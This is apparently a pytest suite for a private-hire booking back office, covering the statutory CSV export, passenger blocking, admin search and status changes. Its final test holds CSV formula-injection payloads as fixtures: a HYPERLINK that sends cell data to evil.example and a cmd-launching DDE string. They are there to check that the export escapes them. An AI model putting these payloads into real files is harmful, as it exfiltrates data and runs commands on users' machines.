"""Back office: the statutory booking record export and blocking passengers."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model

from bookings.models import Booking, Passenger

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client):
    user = get_user_model().objects.create_superuser("boss", "boss@example.co.uk", "pw")
    client.force_login(user)
    return client


def test_statutory_record_export_has_the_required_columns(staff_client, booking_factory):
    booking = booking_factory(job_ref="ACME-1")
    response = staff_client.post(
        "/admin/bookings/booking/",
        {"action": "export_statutory_record", "_selected_action": [booking.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    header, row = rows[0], rows[1]
    for column in (
        "Passenger name",
        "Time booked (UTC)",
        "Pickup time (UTC)",
        "Pickup",
        "Destination",
        "Fare quoted (GBP)",
        "Driver",
        "Driver licence",
        "Vehicle registration",
        "Subcontracted to",
    ):
        assert column in header
    record = dict(zip(header, row, strict=True))
    assert record["Reference"] == booking.reference
    assert record["Fare quoted (GBP)"] == "48.20"


def test_block_passenger_action_blocks_future_bookings(staff_client, booking_factory):
    booking = booking_factory()
    staff_client.post(
        "/admin/bookings/booking/",
        {"action": "block_passenger", "_selected_action": [booking.pk]},
    )
    assert Passenger.objects.get(email=booking.passenger_email).blocked


def test_booking_admin_search_finds_by_reference_email_phone_and_job_ref(
    staff_client, booking_factory
):
    booking = booking_factory(job_ref="ACME-77")
    booking_factory(passenger_email="other@example.co.uk", passenger_phone="+447700900999")
    for term in (booking.reference, "jo.bloggs@", "+447700900123", "ACME-77"):
        page = staff_client.get("/admin/bookings/booking/", {"q": term})
        assert booking.reference in page.content.decode(), term
    assert Booking.objects.count() == 2


@pytest.mark.parametrize(
    "typed", ["07700900123", "07700 900123", "+44 7700 900123", "447700900123"]
)
def test_booking_admin_finds_a_phone_in_any_format_people_type(
    staff_client, booking_factory, typed
):
    booking = booking_factory()
    other = booking_factory(passenger_email="other@example.co.uk", passenger_phone="+447700900999")
    page = staff_client.get("/admin/bookings/booking/", {"q": typed}).content.decode()
    assert booking.reference in page
    assert other.reference not in page


def test_booking_admin_searches_the_addresses_as_typed(staff_client, booking_factory):
    booking = booking_factory(pickup="10 Downing Street, London SW1A 2AA")
    page = staff_client.get("/admin/bookings/booking/", {"q": "Downing Street"}).content.decode()
    assert booking.reference in page


def test_a_bookings_journey_time_and_fare_are_read_only(staff_client, booking_factory):
    booking = booking_factory(tariff_source={"kind": "council", "reference": "leeds-2024"})
    page = staff_client.get(f"/admin/bookings/booking/{booking.pk}/change/")
    fields = page.context["adminform"].form.base_fields
    for name in ("pickup", "dropoff", "pickup_lat", "pickup_time", "fare", "passengers"):
        assert name not in fields, name
    for name in ("tariff_source", "tariff_source_own", "tariff_snapshot"):  # issue 41
        assert name not in fields, name
    assert "leeds-2024" in page.content.decode()
    data = {f: v for f, v in page.context["adminform"].form.initial.items() if v is not None}
    staff_client.post(
        f"/admin/bookings/booking/{booking.pk}/change/",
        {**data, "pickup": "Somewhere else", "pickup_lat": "0", "fare": "1.00"},
    )
    fresh = Booking.objects.get(pk=booking.pk)
    assert (fresh.pickup, fresh.pickup_lat, fresh.fare) == (
        booking.pickup,
        booking.pickup_lat,
        booking.fare,
    )


# --- the back office goes through the services ---------------------------------------------


def status_change_post(client, bookings, **form):
    return client.post(
        "/admin/bookings/booking/",
        {"action": "status_change", "_selected_action": [b.pk for b in bookings], **form},
    )


def test_status_is_read_only_on_the_booking_form(staff_client, booking_factory):
    # given a cancelled booking
    booking = booking_factory(status="cancelled")
    page = staff_client.get(f"/admin/bookings/booking/{booking.pk}/change/")
    # then the form has no status field to edit
    assert page.status_code == 200
    assert 'name="status"' not in page.content.decode()
    assert "status" not in page.context["adminform"].form.base_fields
    # and a crafted POST of a status is ignored
    data = {f: v for f, v in page.context["adminform"].form.initial.items() if v is not None}
    staff_client.post(
        f"/admin/bookings/booking/{booking.pk}/change/", {**data, "status": "on_board"}
    )
    booking.refresh_from_db()
    assert booking.status == "cancelled"


def test_status_change_offers_only_legal_next_steps(staff_client, booking_factory):
    booking = booking_factory(status="arrived")
    page = status_change_post(staff_client, [booking])
    assert page.status_code == 200
    offered = [value for value, _ in page.context["form"].fields["to_status"].choices]
    assert offered == ["on_board", "cancelled", "no_show"]


def test_status_change_from_a_terminal_status_is_not_offered(staff_client, booking_factory):
    booking = booking_factory(status="cancelled")
    response = status_change_post(staff_client, [booking], apply="1", to_status="on_board")
    # no form, nothing changed
    assert response.status_code == 302
    booking.refresh_from_db()
    assert booking.status == "cancelled"
    assert not booking.events.exists()


def test_an_illegal_status_posted_anyway_is_refused(staff_client, booking_factory):
    booking = booking_factory(status="confirmed")
    response = status_change_post(staff_client, [booking], apply="1", to_status="on_board")
    assert response.status_code == 200  # the form again, with its error
    assert response.context["form"].errors
    booking.refresh_from_db()
    assert booking.status == "confirmed"


def test_status_change_goes_through_the_service(staff_client, booking_factory):
    # given an arrived booking at sequence 1
    booking = booking_factory(status="arrived")
    sequence = booking.sequence
    # when the back office marks the passenger on board
    response = status_change_post(
        staff_client, [booking], apply="1", to_status="on_board", reason="driver phoned in"
    )
    # then the booking moved, its sequence went up and the event names the administrator
    assert response.status_code == 302
    booking.refresh_from_db()
    assert booking.status == "on_board"
    assert booking.sequence == sequence + 1
    event = booking.events.get()
    assert (event.from_status, event.to_status) == ("arrived", "on_board")
    assert event.sequence == booking.sequence
    assert event.actor == "admin:boss"
    assert event.detail == {"reason": "driver phoned in"}


def test_cancelling_from_the_back_office_records_the_reason(staff_client, booking_factory):
    booking = booking_factory(status="confirmed")
    status_change_post(staff_client, [booking], apply="1", to_status="cancelled", reason="dup")
    booking.refresh_from_db()
    assert booking.status == "cancelled"
    assert booking.cancel_reason == "dup"
    assert booking.events.get().type == "booking.cancelled"


def test_bookings_cannot_be_deleted(staff_client, booking_factory):
    booking = booking_factory()
    changelist = staff_client.get("/admin/bookings/booking/")
    assert changelist.status_code == 200
    assert 'value="delete_selected"' not in changelist.content.decode()
    assert 'value="status_change"' in changelist.content.decode()
    assert staff_client.get(f"/admin/bookings/booking/{booking.pk}/delete/").status_code == 403
    staff_client.post(
        "/admin/bookings/booking/",
        {"action": "delete_selected", "_selected_action": [booking.pk], "post": "yes"},
    )
    assert Booking.objects.filter(pk=booking.pk).exists()


def test_passenger_admin_blocks_and_unblocks_through_the_services(staff_client):
    passenger = Passenger.objects.create(email="spam@example.co.uk")
    staff_client.post(
        "/admin/bookings/passenger/", {"action": "block", "_selected_action": [passenger.pk]}
    )
    passenger.refresh_from_db()
    assert passenger.blocked
    assert passenger.blocked_reason == "blocked by boss in admin"
    staff_client.post(
        "/admin/bookings/passenger/", {"action": "unblock", "_selected_action": [passenger.pk]}
    )
    passenger.refresh_from_db()
    assert (passenger.blocked, passenger.blocked_reason) == (False, "")


def test_statutory_record_export_writes_passenger_formulas_as_text(staff_client, booking_factory):
    """Issue 13: "The statutory CSV export writes `=HYPERLINK(...)` and `@SUM(...)` from
    passenger input as formulas". Cells that a spreadsheet would run start with a quote."""
    booking = booking_factory(
        passenger_name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        pickup="@SUM(1+1)*cmd|' /C calc'!A0",
        dropoff="\tLeeds station",
        passenger_phone="+447700900123",
    )
    response = staff_client.post(
        "/admin/bookings/booking/",
        {"action": "export_statutory_record", "_selected_action": [booking.pk]},
    )
    header, row = list(csv.reader(io.StringIO(response.content.decode())))[:2]
    record = dict(zip(header, row, strict=True))
    assert record["Passenger name"] == "'" + booking.passenger_name
    assert record["Pickup"] == "'" + booking.pickup
    assert record["Destination"] == "'\tLeeds station"
    # A plain number runs nothing and stays as it is.
    assert record["Passenger phone"] == "+447700900123"
    assert record["Fare quoted (GBP)"] == "48.20"
